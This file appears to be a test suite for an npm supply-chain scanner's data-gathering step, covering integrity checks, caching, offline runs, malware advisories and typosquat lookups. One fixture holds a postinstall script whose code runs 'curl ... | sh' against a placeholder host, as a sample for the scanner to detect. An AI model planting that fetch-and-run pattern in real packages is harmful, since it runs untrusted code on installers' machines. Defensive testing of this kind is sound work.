import { mkdirSync, writeFileSync } from 'node:fs'
import type { RequestListener } from 'node:http'
import { join } from 'node:path'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { type GatherOptions, gather } from '../../src/gather/gather.ts'
import { judge, type Standards } from '../../src/judge/judge.ts'
import { knownPackage } from '../../src/likeness/known.ts'
import type { Facts, ResolvedPackage } from '../../src/model.ts'
import { integrityOf } from '../../src/parse/integrity.ts'
import { acceptedIndex } from '../../src/policy/accepted.ts'
import { defaultPolicy } from '../../src/policy/policy.ts'
import { outline, program } from '../likeness/support.ts'
import { archive as facts } from '../rules/evidence.ts'
import { configOf, fakeClock, pkg, routes, type Server, send, serve, tarball, temporary } from './support.ts'

const archive = tarball({
  'package.json': JSON.stringify({ name: 'a', version: '1.0.0', scripts: { install: 'node x.js' } }),
  'x.js': '',
})
const integrity = integrityOf(archive)
const usual = '/a/-/a-1.0.0.tgz'
const packument = {
  versions: { '1.0.0': { name: 'a', version: '1.0.0', scripts: { install: 'node x.js' }, dist: { integrity } } },
  time: { '1.0.0': '2020-01-01T00:00:00.000Z' },
}

interface Run {
  readonly server: Server
  readonly project: string
  one(pkg: ResolvedPackage, more?: Partial<GatherOptions>): Promise<Facts>
  all(packages: readonly ResolvedPackage[], more?: Partial<GatherOptions>): Promise<Map<ResolvedPackage, Facts>>
}

async function against(listener: RequestListener, run: (run: Run) => Promise<void>): Promise<void> {
  const server = await serve(listener)
  const project = temporary()
  const options: GatherOptions = {
    config: configOf({ registry: `${server.origin}/` }, temporary()),
    projectDir: project,
    cacheDir: join(temporary(), 'cache'),
    offline: false,
    feed: { state: 'known', value: { lookup: () => [] } },
    names: {
      state: 'known',
      value: {
        look: () => ({ downloads: null, near: null, invented: false, scopeKnown: false, aliasDownloads: null }),
      },
    },
    likeness: { state: 'known', value: { packages: [] } },
    minimumAge: 0,
    now: new Date('2026-11-01'),
    clock: fakeClock(),
    analyser: 'test',
    wants: () => ({ published: false, registryManifest: false, history: false, naming: false, twins: [] }),
  }
  const all = (packages: readonly ResolvedPackage[], more: Partial<GatherOptions> = {}) =>
    gather({ packages, gaps: [] }, { ...options, ...more })
  try {
    await run({ server, project, all, one: async (wanted, more) => (await all([wanted], more)).get(wanted) as Facts })
  } finally {
    await server.close()
  }
}

const everything = {
  wants: () => ({ published: true, registryManifest: true, history: true, naming: true, twins: [] }),
}
const whyOf = (fact: { readonly state: string; readonly why?: string }) => fact.why ?? fact.state

test('a package from the registry has all its facts', async () => {
  await against(routes({ [usual]: archive, '/a': packument }), async ({ one }) => {
    const facts = await one(pkg({ integrity }), everything)
    assert.is(facts.archive.state === 'known' && facts.archive.value?.installScripts['install'], 'node x.js')
    assert.equal(facts.integrity, { state: 'known', value: { claimed: integrity, actual: integrity, matches: true } })
    assert.is(facts.registryManifest.state === 'known' && facts.registryManifest.value?.scripts['install'], 'node x.js')
    assert.equal(facts.published, { state: 'known', value: '2020-01-01T00:00:00.000Z' })
    assert.equal(facts.advisories, { state: 'known', value: [] })
  })
})

test('a release is told from those before it, with what is known of the dependencies that it gained', async () => {
  const at = (day: number) => new Date(Date.UTC(2020, 0, day)).toISOString()
  const document = {
    versions: {
      '0.9.9': { version: '0.9.9' },
      '1.0.0': { ...packument.versions['1.0.0'], dependencies: { b: '1', c: '1' } },
      '0.9.8': { version: '0.9.8', dependencies: { c: '1' } },
    },
    time: { '0.9.8': at(1), '0.9.9': at(10), '1.0.0': at(30) },
  }
  const born = { versions: { '1.0.0': { version: '1.0.0' } }, time: { '1.0.0': at(29) } }
  const next = { ...document, versions: { ...document.versions, '1.0.1': document.versions['1.0.0'] } }
  await against(routes({ [usual]: archive, '/a': document, '/b': born }), async ({ one }) => {
    const { history, newDependencies } = await one(pkg({ integrity }), everything)
    assert.equal(history.state === 'known' && [history.value?.settled, history.value?.integrity], [2, integrity])
    // The first of its line is compared with nothing.
    assert.equal(newDependencies, { state: 'known', value: [] })
  })
  const line = {
    versions: { ...next.versions, '1.0.1': { version: '1.0.1', dependencies: { b: '1', c: '1', d: '1' } } },
    time: { ...document.time, '1.0.1': at(60) },
  }
  const gained = pkg({ id: 'a@1.0.1', version: '1.0.1' })
  await against(routes({ '/a': line, '/d': born }), async ({ one }) => {
    const { newDependencies } = await one(gained, everything)
    assert.equal(newDependencies, {
      state: 'known',
      value: [{ name: 'd', born: at(29), people: [], hasInstallScript: false }],
    })
  })
  await against(routes({ '/a': line }), async ({ one }) => {
    const { newDependencies } = await one(gained, everything)
    assert.match(whyOf(newDependencies), 'd is not in the registry')
  })
})

test('the second run needs no network, and works offline', async () => {
  await against(routes({ [usual]: archive, '/a': packument }), async ({ one, server }) => {
    const first = await one(pkg({ integrity }), everything)
    const asked = server.asked.length
    for (const offline of [false, true]) {
      const again = await one(pkg({ integrity }), { ...everything, offline })
      assert.equal(JSON.parse(JSON.stringify(again)), JSON.parse(JSON.stringify(first)))
    }
    assert.is(server.asked.length, asked)
  })
})

test('what nobody knows by name is compared with what ships, cold, warm and offline', async () => {
  const files = { 'index.js': program(1), 'README.md': program(2) }
  const copy = tarball({ ...files, 'package.json': '{"name":"a","version":"1.0.0"}', 'more.js': program(3, 9) })
  const packages = [knownPackage({ name: 'b', version: '2.0.0' }, outline(files), facts(), null)]
  const likeness = { state: 'known', value: { packages } } as const
  await against(routes({ [usual]: copy, '/a': packument }), async ({ one }) => {
    const of = async (more: Partial<GatherOptions>) =>
      (await one(pkg({ integrity: integrityOf(copy) }), { ...everything, likeness, ...more })).copied
    const cold = await of({})
    assert.equal(cold.state === 'known' && [cold.value?.name, cold.value?.code, cold.value?.same], [
      'b',
      1,
      ['index.js'],
    ])
    assert.equal(await of({ offline: true }), cold)
    const isKnown = { downloads: 900, near: null, invented: false, scopeKnown: false, aliasDownloads: null }
    assert.equal(await of({ names: { state: 'known', value: { look: () => isKnown } } }), {
      state: 'known',
      value: null,
    })
  })
})

const plain = (value: unknown): unknown => JSON.parse(JSON.stringify(value))
const busy = tarball({
  'package.json': JSON.stringify({
    name: 'a',
    version: '1.0.0',
    scripts: { postinstall: 'node x.js && node gone.js' },
  }),
  'x.js': "require('child_process').exec('curl https://files.invalid/x | sh'); require('./' + process.argv[2])",
})

test('the verdict is the same from the bytes and from the cache, with all that it says', async () => {
  await against(routes({ [usual]: busy }), async ({ one }) => {
    const wanted = pkg({ integrity: integrityOf(busy) })
    const standards: Standards = {
      policy: defaultPolicy,
      approvals: [],
      accepted: acceptedIndex([]),
      registries: [],
      now: new Date('2026-11-01'),
    }
    const [cold, warm] = [await one(wanted), await one(wanted, { offline: true })]
    assert.equal(plain(warm), plain(cold))
    assert.equal(plain(judge(wanted, warm, standards)), plain(judge(wanted, cold, standards)))
    assert.ok(cold.code.state === 'known' && cold.code.value && cold.code.value.reach.files.length > 0)
  })
})

test('what another analyser found is not believed; without the bytes the code is unknown', async () => {
  await against(routes({ [usual]: archive }), async ({ one, server }) => {
    await one(pkg({ integrity }))
    const offline = await one(pkg({ integrity }), { analyser: 'newer', offline: true })
    assert.is(offline.archive.state, 'known')
    assert.match(whyOf(offline.code), 'offline')
    assert.is((await one(pkg({ integrity }), { analyser: 'newer' })).code.state, 'known')
    assert.is(server.asked.length, 2)
  })
})

test('offline without a cache is unknown, never clean', async () => {
  await against(routes({ [usual]: archive }), async ({ one, server }) => {
    const facts = await one(pkg({ integrity }), { ...everything, offline: true })
    for (const fact of [facts.archive, facts.integrity, facts.registryManifest, facts.published])
      assert.match(whyOf(fact), 'offline, and')
    assert.is(server.asked.length, 0)
  })
})

test('wrong bytes are a mismatch with the facts of those bytes, and do not pass for the right ones later', async () => {
  const other = tarball({
    'package.json': JSON.stringify({ name: 'a', version: '1.0.0', scripts: { install: 'evil' } }),
  })
  await against(routes({ '/x.tgz': other }), async ({ one, server }) => {
    const wanted = pkg({ integrity, source: { type: 'registry', tarball: `${server.origin}/x.tgz` } })
    for (const _ of [1, 2]) {
      const facts = await one(wanted)
      assert.equal(facts.integrity, {
        state: 'known',
        value: { claimed: integrity, actual: integrityOf(other), matches: false },
      })
      assert.is(facts.archive.state === 'known' && facts.archive.value?.installScripts['install'], 'evil')
    }
    assert.is(server.asked.length, 2)
  })
})

test('a weak or missing claim is fetched anew each time, for it proves no sameness', async () => {
  await against(routes({ [usual]: archive, '/x.tgz': archive }), async ({ one, server }) => {
    const source = { type: 'registry', tarball: `${server.origin}/x.tgz` } as const
    await one(pkg({ integrity }))
    const before = server.asked.length
    for (const claim of [{ integrity: integrityOf(archive, 'sha1') }, {}]) {
      assert.is((await one(pkg({ source, ...claim }))).archive.state, 'known')
      assert.is((await one(pkg({ source, ...claim }))).archive.state, 'known')
    }
    assert.is(server.asked.length, before + 4)
  })
})

test('bytes that are no archive leave the archive unknown, while their hash is known', async () => {
  const bytes = Buffer.from('no archive')
  await against(routes({ [usual]: bytes }), async ({ one }) => {
    const facts = await one(pkg({ integrity: integrityOf(bytes) }))
    assert.is(facts.archive.state, 'unknown')
    assert.is(facts.integrity.state === 'known' && facts.integrity.value?.matches, true)
  })
})

test('a package that cannot be fetched is unknown and the others are not held up', async () => {
  await against(routes({ [usual]: archive }), async ({ all, server }) => {
    const [good, bad] = [pkg({ integrity }), pkg({ id: 'b@1.0.0', name: 'b', integrity })]
    const none = pkg({ id: 'c@1.0.0', name: 'c' })
    const facts = await all([good, { ...bad, integrity: integrityOf(Buffer.from('b')) }, none])
    const [first, second, third] = [...facts.values()]
    assert.is(first?.archive.state, 'known')
    assert.is(whyOf(second?.archive ?? { state: 'none' }), `404 from ${server.origin}/ for b@1.0.0`)
    assert.is(whyOf(second?.integrity ?? { state: 'none' }), `404 from ${server.origin}/ for b@1.0.0`)
    assert.is(whyOf(third?.archive ?? { state: 'none' }), `c is not in the registry ${server.origin}/`)
    assert.equal(third?.integrity, { state: 'known', value: null })
  })
})

test('folders have no archive, bundled packages one that nobody looked into, and neither asks anybody', async () => {
  await against(routes({}), async ({ one, server }) => {
    const folder = await one(pkg({ source: { type: 'directory', path: 'libs/a' } }), everything)
    assert.equal(folder.archive, { state: 'known', value: null })
    const bundled = await one(pkg({ bundled: true }), everything)
    assert.equal(bundled.archive, { state: 'unknown', why: 'bundled inside its parent' })
    for (const facts of [folder, bundled]) {
      for (const fact of [facts.integrity, facts.registryManifest, facts.published])
        assert.equal(fact, { state: 'known', value: null })
    }
    assert.is(server.asked.length, 0)
  })
})

test('git, URL and file dependencies have no registry', async () => {
  await against(routes({ '/u.tgz': archive }), async ({ one, server, project }) => {
    mkdirSync(join(project, 'libs'))
    writeFileSync(join(project, 'libs', 'a.tgz'), archive)
    const git = await one(pkg({ source: { type: 'git', url: 'git+https://host.invalid/o/r.git' } }), everything)
    assert.match(whyOf(git.archive), 'git dependency')
    const url = await one(pkg({ source: { type: 'url', url: `${server.origin}/u.tgz` } }), everything)
    const file = await one(pkg({ source: { type: 'file', path: 'libs/a.tgz' } }), everything)
    for (const facts of [url, file]) assert.is(facts.archive.state, 'known')
    for (const facts of [git, url, file])
      assert.equal(
        [facts.registryManifest, facts.published],
        [
          { state: 'known', value: null },
          { state: 'known', value: null },
        ],
      )
  })
})

test('an API is asked about what may be named to it, and offline its silence is a gap', async () => {
  const bodies: string[] = []
  const listener: RequestListener = (request, response) => {
    if (request.method !== 'POST') return send(response, 404, '{}')
    request.on('data', (chunk) => bodies.push(`${chunk}`))
    request.on('end', () => send(response, 200, '{"results":[{"vulns":[{"id":"MAL-2026-1"}]}]}'))
  }
  await against(listener, async ({ all, server }) => {
    const [asked, kept] = [pkg(), pkg({ id: 'b@1.0.0', name: 'b' })]
    const live = { api: `${server.origin}/`, asks: ({ name }: ResolvedPackage) => name === 'a' }
    const facts = await all([asked, kept], { live })
    assert.equal(facts.get(asked)?.advisories, { state: 'known', value: [{ id: 'MAL-2026-1' }] })
    assert.equal(facts.get(kept)?.advisories, { state: 'known', value: [] })
    assert.equal(bodies, ['{"queries":[{"package":{"name":"a","ecosystem":"npm"},"version":"1.0.0"}]}'])
    const offline = (await all([asked], { live, offline: true })).get(asked) as Facts
    assert.match(whyOf(offline.advisories), /^offline/)
    assert.is(bodies.length, 1)
  })
})

test('advisories are looked up under the real name, and a feed that is missing or broken is unknown', async () => {
  await against(routes({}), async ({ one }) => {
    const aliased = pkg({ alias: 'good', name: 'evil', source: { type: 'directory', path: 'x' } })
    const lookup = (name: string, version: string) => (name === 'evil' && version === '1.0.0' ? [{ id: 'MAL-1' }] : [])
    assert.equal((await one(aliased, { feed: { state: 'known', value: { lookup } } })).advisories, {
      state: 'known',
      value: [{ id: 'MAL-1' }],
    })
    assert.equal((await one(aliased, { feed: { state: 'unknown', why: 'no feed' } })).advisories, {
      state: 'unknown',
      why: 'no feed',
    })
    const broken = () => {
      throw new Error('torn')
    }
    assert.is(
      whyOf((await one(aliased, { feed: { state: 'known', value: { lookup: broken } } })).advisories),
      'the malware feed could not be searched: torn',
    )
  })
})

test('every package gets facts and progress counts each one, also when one id has two sources', async () => {
  await against(routes({ [usual]: archive }), async ({ all, server }) => {
    const packages = [
      pkg({ integrity }),
      pkg({ integrity, alias: 'b' }),
      pkg({ source: { type: 'directory', path: 'x' } }),
    ]
    const seen: string[] = []
    const facts = await all(packages, { onProgress: (done, total) => seen.push(`${done}/${total}`) })
    assert.is(facts.size, 3)
    assert.equal(seen.sort(), ['1/3', '2/3', '3/3'])
    assert.is(server.asked.length, 1)
  })
})

test('a run that is stopped ends with reasons', async () => {
  const controller = new AbortController()
  await against(
    () => controller.abort(),
    async ({ one }) => {
      const facts = await one(pkg({ integrity }), { ...everything, signal: controller.signal })
      for (const fact of [facts.archive, facts.registryManifest, facts.published])
        assert.match(whyOf(fact), 'stopped before')
    },
  )
})

test('a cache that cannot be used is done without', async () => {
  await against(routes({ [usual]: archive }), async ({ one, project, server }) => {
    writeFileSync(join(project, 'file'), '')
    for (const _ of [1, 2])
      assert.is((await one(pkg({ integrity }), { cacheDir: join(project, 'file', 'cache') })).archive.state, 'known')
    assert.is(server.asked.length, 2)
  })
})

test('a registry that fails and recovers is asked again', async () => {
  let count = 0
  await against(
    (_, response) => (count++ === 0 ? send(response, 503, '') : send(response, 200, archive)),
    async ({ one }) => {
      assert.is((await one(pkg({ integrity }))).archive.state, 'known')
    },
  )
})

test('the people of the popular package that an unknown name is near to are looked up', async () => {
  const near = { popular: 'b', rank: 1, downloads: 1e9, kind: 'added', letters: 6, word: 6 } as const
  const facts = { near, invented: false, scopeKnown: false, aliasDownloads: null }
  const release = { version: '1.0.0', _npmUser: { name: 'ana' }, maintainers: [{ name: 'ana' }, { name: 'bo' }] }
  const listener = routes({ '/b': { name: 'b', versions: { '1.0.0': release }, time: {} } })
  await against(listener, async ({ one }) => {
    const asking = (downloads: number | null) => ({
      ...everything,
      names: { state: 'known', value: { look: () => ({ ...facts, downloads }) } } as const,
    })
    assert.equal((await one(pkg(), asking(null))).nearPeople, { state: 'known', value: ['ana', 'bo'] })
    assert.equal((await one(pkg(), asking(900))).nearPeople, { state: 'known', value: null })
  })
})

test.run()
